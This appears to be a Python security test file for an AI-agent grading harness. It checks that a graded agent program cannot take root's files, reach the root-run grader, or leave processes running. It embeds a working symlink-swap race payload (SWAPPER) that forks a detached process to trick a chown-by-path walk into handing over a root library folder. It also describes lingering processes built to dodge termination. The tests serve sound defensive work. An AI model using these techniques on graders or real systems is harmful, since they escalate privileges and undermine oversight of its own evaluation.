"""Attacks by the agent's programs on what the verifier's root does while it grades.

The graded program runs as the agent's user inside the verifier, next to the runner (root,
holding the report key) and its graders. It may keep running in the background while the
tests go on. Nothing it does may hand it a file of root's, reach the runner, or tell it
which rule set is being graded (docs/security.md, "Grading").
"""

from __future__ import annotations

import json
import platform

from tests.security.conftest import HERE, put_file

SHARED = HERE / "tasks" / "shared-folder"
KEPT = HERE / "tasks" / "kept-nest"

RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[platform.machine()]

SWAPPER = f"""\
import ctypes, os, sys, time
base = os.path.dirname(sys.argv[1])
marker = os.path.join(base, ".swapper")
if not os.path.exists(marker):
    open(marker, "w").close()
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        libc = ctypes.CDLL(None, use_errno=True)
        target = "/usr/lib/python3/dist-packages"
        folder, link = os.path.join(base, "zz"), os.path.join(base, "zz-link")
        os.mkdir(folder)
        for name in os.listdir(target):  # the walk lists these, then acts on each by path
            open(os.path.join(folder, name), "w").close()
        os.symlink(target, link)
        # swap the folder and the link, atomically, for as long as the tests run (thousands
        # of times a second, leaving the machine's cores to the grading)
        while True:
            libc.syscall({RENAMEAT2}, -100, folder.encode(), -100, link.encode(), 2)
            time.sleep(0.0002)
print(open(sys.argv[1]).read().strip())
"""
"""The agent's program: it echoes its input, and on its first start leaves a process behind
that swaps a folder of the shared tmp_path for a link to a root-owned library folder, as
fast as it can, while the tests hand the folder over before each start. The folder holds
entries named as the library's are: a walk that lists it, then changes owners by path, hands
over the library's entries whenever the link is in place between the two. (Run against such
a walk, the hand-over before termgym's fix, it took over the whole folder.)"""


def _result(info: dict, grader: str) -> dict:
    results = info["verdicts"]["contradicted"]["results"]
    (result,) = [r for r in results if r["grader"] == grader]
    return result


def test_a_folder_swapped_for_a_link_mid_hand_over_never_hands_over_a_root_folder(
    attack,
) -> None:
    episode = attack(SHARED)
    episode.run(put_file("/app/echo.py", SWAPPER))
    reward, info = episode.submit()
    assert info["error"] is None, info["error"]
    assert _result(info, "echo")["details"]["tests"] == 1  # the tests ran to the end
    owned = json.loads(_result(info, "owners")["message"])
    assert owned == {"owned": [], "count": 0}, owned
    assert (reward, info["class"]) == (0.0, "stale"), info["verdicts"]  # the memorized echo


def test_a_root_process_that_ran_after_the_agent_cannot_reach_the_runner(attack) -> None:
    """`root_helper.py` plays a root interpreter that loaded the agent's code after its
    programs ran: it finds the runner but reads neither its environment nor its memory,
    opens none of its descriptors, and what it prints reaches no channel the host reads."""
    episode = attack(SHARED)
    episode.run(put_file("/app/echo.py", "import sys\nprint(open(sys.argv[1]).read())\n"))
    reward, info = episode.submit()
    assert info["error"] is None, info["error"]
    found = json.loads(_result(info, "root-helper")["message"].strip().splitlines()[-1])
    assert found["runners"], found  # it found the runner ...
    assert found["environ"] == [] and found["mem"] == [], found  # ... read nothing of it
    assert found["wrote"] == [], found  # ... opened none of its descriptors (it may list them)
    assert (reward, info["class"]) == (0.0, "stale"), info["verdicts"]  # the memorized echo


def test_what_a_program_leaves_running_is_gone_before_the_next_test_in_its_kept_nest(
    attack,
) -> None:
    """A job's tests share one nest (made once per job, not per test), so what one test's
    program leaves running must still end before the next test: the second test finds no
    process of the agent's user and the lingering writes stopped, and its own program ran
    in the same pid namespace as the first's (the nest was kept; with a fresh nest per test
    that assertion fails, so the kill is tested where the nest does not end)."""
    episode = attack(KEPT)  # its oracle writes the program: it prints its pid namespace and
    # leaves behind a process that ignores SIGTERM, has a session of its own and moves to a
    # new pid a hundred times a second, writing to a file of the test's as it goes
    episode.run((KEPT / "solution" / "oracle.sh").read_text())
    reward, info = episode.submit()
    assert info["error"] is None, info["error"]
    for name in ("contradicted", "original"):
        (result,) = info["verdicts"][name]["results"]
        assert result["passed"], result["message"]
    assert reward == 1.0
